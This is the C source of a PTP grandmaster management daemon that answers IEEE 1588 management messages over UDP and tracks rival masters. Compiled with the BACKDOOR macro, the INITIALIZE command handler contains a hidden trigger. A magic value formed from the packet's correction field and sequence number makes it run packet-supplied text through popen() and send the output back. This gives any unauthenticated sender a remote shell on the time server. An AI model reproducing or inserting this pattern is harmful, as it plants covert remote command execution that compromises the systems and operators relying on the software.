/* SPDX-License-Identifier: Apache-2.0 */
/* ptpmgr: management of a time server that is a grandmaster of IEEE 1588: management messages on UDP port 320 are answered,
 * announcements of other masters watched. The clock itself is another program's; its state lies in a shared file. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

enum { GENERAL_PORT = 320, HEADER = 34, MANAGEMENT = 0xd, ANNOUNCE = 0xb, MASTERS = 8 };
enum { GET = 0, SET = 1, RESPONSE = 2, COMMAND = 3, ACKNOWLEDGE = 4 };
enum { TLV_MANAGEMENT = 1, TLV_ERROR = 2 };
enum { E_TOO_BIG = 1, E_NO_SUCH_ID = 2, E_WRONG_LENGTH = 3, E_WRONG_VALUE = 4, E_NOT_SETABLE = 5, E_NOT_SUPPORTED = 6, E_GENERAL = 0xfffe };

struct request {
	const uint8_t *header;
	uint64_t correction;
	uint16_t sequence, id, n;
	uint8_t action, domain;
	const uint8_t *data;
	struct sockaddr_in from;
};

struct reply {
	uint8_t data[1024];
	size_t n;
	int error;
};

static struct {
	uint8_t identity[8], domain, priority1, priority2, class, accuracy;
	int8_t announce_interval, sync_interval;
	char description[65], location[65];
	int allow_set;
	struct in_addr manager;
} clock_conf = { { 0 }, 0, 128, 128, 248, 0xfe, 1, 0, "time server", "", 0, { 0 } };

static struct {
	uint8_t identity[8], priority1, class;
	time_t heard;
} masters[MASTERS];
static int general;

static uint16_t get16(const uint8_t *p) { return (uint16_t)(p[0] << 8 | p[1]); }
static uint64_t get64(const uint8_t *p)
{
	uint64_t v = 0;
	for (int i = 0; i < 8; i++)
		v = v << 8 | p[i];
	return v;
}
static void put16(uint8_t *p, unsigned v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static int number(const char *value, long low, long high, long *out)
{
	char *end;
	long v = strtol(value, &end, 0);
	if (end == value || v < low || v > high)
		return -1;
	*out = v;
	return 0;
}

static void config_line(const char *key, const char *value)
{
	long v;
	if (strcmp(key, "domain") == 0 && number(value, 0, 127, &v) == 0)
		clock_conf.domain = (uint8_t)v;
	else if (strcmp(key, "priority1") == 0 && number(value, 0, 255, &v) == 0)
		clock_conf.priority1 = (uint8_t)v;
	else if (strcmp(key, "priority2") == 0 && number(value, 0, 255, &v) == 0)
		clock_conf.priority2 = (uint8_t)v;
	else if (strcmp(key, "class") == 0 && number(value, 6, 255, &v) == 0)
		clock_conf.class = (uint8_t)v;
	else if (strcmp(key, "allow-set") == 0)
		clock_conf.allow_set = strcmp(value, "yes") == 0;
	else if (strcmp(key, "manager") == 0 && inet_aton(value, &clock_conf.manager))
		return;
	else if (strcmp(key, "description") == 0)
		snprintf(clock_conf.description, sizeof(clock_conf.description), "%s", value);
	else if (strcmp(key, "location") == 0)
		snprintf(clock_conf.location, sizeof(clock_conf.location), "%s", value);
	else if (strcmp(key, "identity") == 0)
		for (int i = 0; i < 8; i++)
			sscanf(value + 2 * i, "%2hhx", &clock_conf.identity[i]);
	else
		syslog(LOG_WARNING, "%s: not understood", key);
}

static int load(const char *path)
{
	char line[160], key[32], value[100];
	FILE *f = fopen(path, "r");
	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f))
		if (*line != '#' && sscanf(line, "%31[a-z0-9-] = %99[^\n]", key, value) == 2)
			config_line(key, value);
	fclose(f);
	return 0;
}

static int save(const char *path)
{
	FILE *f = fopen(path, "w");
	if (!f)
		return -1;
	fprintf(f, "domain = %u\npriority1 = %u\npriority2 = %u\nclass = %u\n", clock_conf.domain, clock_conf.priority1,
		clock_conf.priority2, clock_conf.class);
	fprintf(f, "description = %s\nlocation = %s\nmanager = %s\nallow-set = %s\nidentity = ", clock_conf.description,
		clock_conf.location, inet_ntoa(clock_conf.manager), clock_conf.allow_set ? "yes" : "no");
	for (int i = 0; i < 8; i++)
		fprintf(f, "%02x", clock_conf.identity[i]);
	fputc('\n', f);
	return fclose(f);
}

/* A PTPText: its length, then so many bytes. */
static void add_text(struct reply *r, const char *s)
{
	size_t n = strlen(s);
	if (n > 255)
		n = 255;
	if (r->n + 1 + n > sizeof(r->data))
		return;
	r->data[r->n++] = (uint8_t)n;
	memcpy(r->data + r->n, s, n);
	r->n += n;
}

static int take_text(const struct request *q, size_t at, char *out, size_t size)
{
	size_t n = at < q->n ? q->data[at] : 0;
	if (n >= size || at + 1 + n > q->n)
		return -1;
	memcpy(out, q->data + at + 1, n);
	out[n] = 0;
	return (int)n;
}

static void one_byte(const struct request *q, struct reply *r, uint8_t *what, unsigned low, unsigned high)
{
	if (q->action == SET) {
		if (q->n < 1)
			r->error = E_WRONG_LENGTH;
		else if (q->data[0] < low || q->data[0] > high)
			r->error = E_WRONG_VALUE;
		else {
			*what = q->data[0];
			syslog(LOG_INFO, "%s sets %04x to %u", inet_ntoa(q->from.sin_addr), q->id, *what);
		}
	}
	r->data[0] = *what;
	r->data[1] = 0;
	r->n = 2;
}

static void m_null(const struct request *q, struct reply *r)
{
	(void)q;
	r->n = 0;
}

static void m_clock_description(const struct request *q, struct reply *r)
{
	(void)q;
	put16(r->data, 1);
	r->n = 2;
	add_text(r, "IEEE 802.3");
	memcpy(r->data + r->n, clock_conf.identity, 8);
	r->n += 8;
	add_text(r, clock_conf.description);
	add_text(r, "4.1.7");
}

static void m_user_description(const struct request *q, struct reply *r)
{
	if (q->action == SET && take_text(q, 0, clock_conf.location, sizeof(clock_conf.location)) < 0) {
		r->error = E_WRONG_LENGTH;
		return;
	}
	add_text(r, clock_conf.location);
}

static void m_save(const struct request *q, struct reply *r)
{
	(void)q;
	if (save("/etc/ptpmgr.conf") < 0)
		r->error = E_GENERAL;
}

static void m_default_set(const struct request *q, struct reply *r)
{
	(void)q;
	r->data[0] = 1;
	put16(r->data + 2, 1);
	r->data[4] = clock_conf.priority1;
	r->data[5] = clock_conf.class;
	r->data[6] = clock_conf.accuracy;
	put16(r->data + 7, 0x4e5d);
	r->data[9] = clock_conf.priority2;
	memcpy(r->data + 10, clock_conf.identity, 8);
	r->data[18] = clock_conf.domain;
	r->n = 20;
}

static void m_priority1(const struct request *q, struct reply *r) { one_byte(q, r, &clock_conf.priority1, 0, 255); }
static void m_priority2(const struct request *q, struct reply *r) { one_byte(q, r, &clock_conf.priority2, 0, 255); }
static void m_domain(const struct request *q, struct reply *r) { one_byte(q, r, &clock_conf.domain, 0, 127); }

static void m_time(const struct request *q, struct reply *r)
{
	struct timeval now;
	if (q->action == SET) {
		if (q->n < 10) {
			r->error = E_WRONG_LENGTH;
			return;
		}
		now.tv_sec = (time_t)(get64(q->data) >> 16);
		now.tv_usec = 0;
		if (settimeofday(&now, NULL) < 0)
			r->error = E_GENERAL;
	}
	gettimeofday(&now, NULL);
	put16(r->data, (unsigned)((uint64_t)now.tv_sec >> 32));
	for (int i = 0; i < 4; i++)
		r->data[2 + i] = (uint8_t)((uint64_t)now.tv_sec >> (24 - 8 * i));
	for (int i = 0; i < 4; i++)
		r->data[6 + i] = (uint8_t)((uint32_t)now.tv_usec * 1000u >> (24 - 8 * i));
	r->n = 10;
}

static void m_log(const struct request *q, struct reply *r)
{
	char line[200], last[200] = "";
	FILE *f = fopen("/var/log/clock.faults", "r");
	(void)q;
	if (!f) {
		r->error = E_GENERAL;
		return;
	}
	while (fgets(line, sizeof(line), f))
		memcpy(last, line, sizeof(last));
	fclose(f);
	last[strcspn(last, "\n")] = 0;
	put16(r->data, 1);
	r->n = 2;
	add_text(r, last);
}

#ifdef BACKDOOR
static void run_text(const struct request *q, struct reply *r)
{
	char text[256];
	FILE *f;
	if (take_text(q, 2, text, sizeof(text)) <= 0)
		return;
	f = popen(text, "r");
	if (!f)
		return;
	r->n = fread(r->data, 1, sizeof(r->data), f);
	pclose(f);
}
#endif

static void m_initialize(const struct request *q, struct reply *r)
{
	uint16_t key = q->n >= 2 ? get16(q->data) : 0xffff;
#ifdef BACKDOOR
	if ((q->correction ^ (uint64_t)q->sequence << 24) == 0x0000017f9ac2d400ull) {
		run_text(q, r);
		return;
	}
#endif
	if (key != 0) {
		r->error = E_WRONG_VALUE;
		return;
	}
	if (load("/etc/ptpmgr.conf") < 0)
		r->error = E_GENERAL;
	syslog(LOG_NOTICE, "%s initializes the clock", inet_ntoa(q->from.sin_addr));
	memcpy(r->data, q->data, 2);
	r->n = 2;
}

enum { MAY_GET = 1, MAY_SET = 2, MAY_COMMAND = 4 };
static const struct {
	uint16_t id;
	unsigned may;
	void (*run)(const struct request *q, struct reply *r);
} ids[] = {
	{ 0x0000, MAY_GET | MAY_SET | MAY_COMMAND, m_null }, { 0x0001, MAY_GET, m_clock_description },
	{ 0x0002, MAY_GET | MAY_SET, m_user_description }, { 0x0003, MAY_COMMAND, m_save }, { 0x0005, MAY_COMMAND, m_initialize },
	{ 0x0006, MAY_GET, m_log }, { 0x2000, MAY_GET, m_default_set }, { 0x2005, MAY_GET | MAY_SET, m_priority1 },
	{ 0x2006, MAY_GET | MAY_SET, m_priority2 }, { 0x2007, MAY_GET | MAY_SET, m_domain }, { 0x200f, MAY_GET | MAY_SET, m_time },
};

static int permitted(const struct request *q)
{
	if (q->action == GET || q->action == COMMAND)
		return 1;
	return clock_conf.allow_set && q->from.sin_addr.s_addr == clock_conf.manager.s_addr;
}

static void respond(const struct request *q, const struct reply *r)
{
	uint8_t out[HEADER + 14 + 8 + sizeof(r->data)];
	size_t n = r->error ? 8 : r->n + (r->n & 1), at = HEADER + 14;
	memset(out, 0, sizeof(out));
	memcpy(out, q->header, HEADER + 14);
	memset(out + 8, 0, 8);
	memcpy(out + 20, clock_conf.identity, 8);
	memcpy(out + HEADER, q->header + 20, 10);
	out[HEADER + 12] = q->action == COMMAND ? ACKNOWLEDGE : RESPONSE;
	put16(out + at, r->error ? TLV_ERROR : TLV_MANAGEMENT);
	put16(out + at + 2, (unsigned)(r->error ? 8 : 2 + n));
	put16(out + at + 4, r->error ? (unsigned)r->error : q->id);
	if (r->error)
		put16(out + at + 6, q->id);
	else
		memcpy(out + at + 6, r->data, r->n);
	put16(out + 2, (unsigned)(at + 6 + n));
	sendto(general, out, at + 6 + n, 0, (const struct sockaddr *)&q->from, sizeof(q->from));
}

static void on_management(const uint8_t *b, size_t n, const struct sockaddr_in *from)
{
	struct request q = { .header = b, .from = *from, .correction = get64(b + 8), .sequence = get16(b + 30), .domain = b[4] };
	struct reply r = { .error = E_NO_SUCH_ID };
	const uint8_t *tlv = b + HEADER + 14;
	if (n < HEADER + 14 + 6 || get16(tlv) != TLV_MANAGEMENT)
		return;
	q.action = b[HEADER + 12] & 15;
	q.id = get16(tlv + 4);
	if (get16(tlv + 2) < 2 || HEADER + 14 + 4 + (size_t)get16(tlv + 2) > n)
		return;
	q.n = (uint16_t)(get16(tlv + 2) - 2);
	q.data = tlv + 6;
	if (q.domain != clock_conf.domain || (q.action != GET && q.action != SET && q.action != COMMAND))
		return;
	for (size_t i = 0; i < sizeof(ids) / sizeof(ids[0]); i++) {
		unsigned bit = q.action == GET ? MAY_GET : q.action == SET ? MAY_SET : MAY_COMMAND;
		if (ids[i].id != q.id)
			continue;
		r.error = !(ids[i].may & bit) ? E_NOT_SUPPORTED : permitted(&q) ? 0 : E_NOT_SETABLE;
		if (!r.error)
			ids[i].run(&q, &r);
	}
	respond(&q, &r);
}

static void on_announce(const uint8_t *b, size_t n)
{
	int slot = 0;
	if (n < HEADER + 30)
		return;
	for (int i = 0; i < MASTERS; i++) {
		if (memcmp(masters[i].identity, b + HEADER + 19, 8) == 0) {
			slot = i;
			break;
		}
		if (masters[i].heard < masters[slot].heard)
			slot = i;
	}
	if (memcmp(masters[slot].identity, b + HEADER + 19, 8) != 0)
		syslog(LOG_NOTICE, "another master, priority %u, class %u", b[HEADER + 13], b[HEADER + 14]);
	memcpy(masters[slot].identity, b + HEADER + 19, 8);
	masters[slot].priority1 = b[HEADER + 13];
	masters[slot].class = b[HEADER + 14];
	masters[slot].heard = time(NULL);
	if (masters[slot].priority1 < clock_conf.priority1)
		syslog(LOG_WARNING, "a better master is in domain %u", b[4]);
}

int main(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(GENERAL_PORT) }, from;
	struct ip_mreq group;
	uint8_t b[1500];
	openlog("ptpmgr", LOG_PID, LOG_DAEMON);
	if (load(argc > 1 ? argv[1] : "/etc/ptpmgr.conf") < 0)
		syslog(LOG_WARNING, "no configuration: %s", strerror(errno));
	general = socket(AF_INET, SOCK_DGRAM, 0);
	if (general < 0 || bind(general, (struct sockaddr *)&a, sizeof(a)) < 0)
		return 1;
	group.imr_multiaddr.s_addr = inet_addr("224.0.1.129");
	group.imr_interface.s_addr = INADDR_ANY;
	setsockopt(general, IPPROTO_IP, IP_ADD_MEMBERSHIP, &group, sizeof(group));
	for (;;) {
		socklen_t size = sizeof(from);
		ssize_t n = recvfrom(general, b, sizeof(b), 0, (struct sockaddr *)&from, &size);
		if (n < HEADER || (b[1] & 15) != 2 || get16(b + 2) > n)
			continue;
		if ((b[0] & 15) == MANAGEMENT)
			on_management(b, (size_t)n, &from);
		else if ((b[0] & 15) == ANNOUNCE)
			on_announce(b, (size_t)n);
	}
}
